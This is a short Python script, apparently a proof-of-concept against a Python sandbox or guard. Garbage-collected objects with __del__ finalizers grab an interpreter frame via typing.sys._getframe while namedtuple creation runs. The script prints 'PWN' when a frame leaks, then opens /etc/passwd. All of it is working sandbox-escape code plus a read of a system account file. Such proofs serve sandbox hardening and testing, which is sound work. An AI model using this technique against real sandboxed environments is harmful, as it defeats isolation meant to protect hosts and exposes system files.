# finalizers the collector runs in the middle of the guard's checks (namedtuple's compile is checked with frame reads) ask for a frame
# guard: open
import collections, typing
got = []
class Leak:
    def __init__(self):
        self.me = self
    def __del__(self):
        got.append(typing.sys._getframe(0))
for i in range(3000):
    Leak()
    collections.namedtuple('P%d' % i, 'a b')
print('PWN' if [g for g in got if type(g).__name__ == 'frame'] else 'no frame')
open("/etc/passwd")
